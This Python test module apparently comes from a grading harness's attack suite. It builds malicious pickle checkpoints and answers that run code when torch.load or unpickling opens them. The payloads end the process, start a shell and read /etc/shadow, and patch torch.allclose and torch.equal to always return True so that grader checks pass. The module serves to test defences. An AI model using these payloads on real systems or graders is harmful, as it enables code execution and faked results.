"""Pickles: a checkpoint that runs code when it is opened, and values that would do so on the other side."""

import pickle

from grading.runner.doctor.attack import HONEST, RIGHT, Attack, wrong


def _pickle(program: str) -> bytes:
    """A pickle that runs `program` when it is loaded."""
    parts = [pickle.PROTO, b"\x02", pickle.GLOBAL, b"builtins\nexec\n", pickle.BINUNICODE, len(program.encode()).to_bytes(4, "little")]
    return b"".join([*parts, program.encode(), pickle.TUPLE1, pickle.REDUCE, pickle.STOP])


_MARK = "import os; os.write(1, b'the attack was made\\n'); os._exit(0)"
_PATCH = "import torch; torch.allclose = torch.equal = lambda *_: True; import os; os.write(1, b'the attack was made\\n')"
_REACH = "import subprocess; subprocess.run(['/bin/sh', '-c', 'echo reached: a shell']); import os; os.open('/etc/shadow', os.O_RDONLY)"
_LOAD = """\
import torch
state = torch.load('model.pt', weights_only=False)
"""

_ANSWERED = """
class Bomb:
    def __reduce__(self):
        return exec, ("import os; os._exit(0)",)
    def __getstate__(self):
        reached("a pickler")
"""

_SAVED = f"""{RIGHT}
import io, pickle, torch, zipfile
class Evil:
    def __reduce__(self):
        return exec, ("open('/tmp/ran', 'w').close()",)
torch.save({{"w": Evil()}}, "/tmp/evil.pt")
try:
    torch.load("/tmp/evil.pt", weights_only=True)
except pickle.UnpicklingError:
    made()
if os.path.exists("/tmp/ran"):
    reached("code by torch.load with weights_only=True")
"""

ATTACKS = (
    Attack(
        "checkpoint-that-ends-the-process",
        "Handed in a model.pt that ends the process when torch.load opens it",
        _LOAD + wrong("x"),
        files={"model.pt": _pickle(_MARK)},
    ),
    Attack(
        "checkpoint-that-patches-torch",
        "Handed in a model.pt that patches torch when it is opened",
        _LOAD + wrong("x"),
        files={"model.pt": _pickle(_PATCH)},
    ),
    Attack(
        "checkpoint-that-starts-a-shell",
        "Handed in a model.pt that starts a shell and opens /etc/shadow",
        "made()\n" + _LOAD + wrong("x"),
        files={"model.pt": _pickle(_REACH)},
    ),
    Attack("checkpoint-with-weights-only", "Opened a malicious checkpoint with weights_only=True", _SAVED, honest=HONEST),
    Attack("answer-that-is-a-pickle", "Answered with an object that runs code when it is unpickled", _ANSWERED + wrong("Bomb()")),
    Attack("answer-that-is-pickled-bytes", "Answered with the bytes of a pickle", wrong(f"{_pickle(_MARK)!r}")),
)
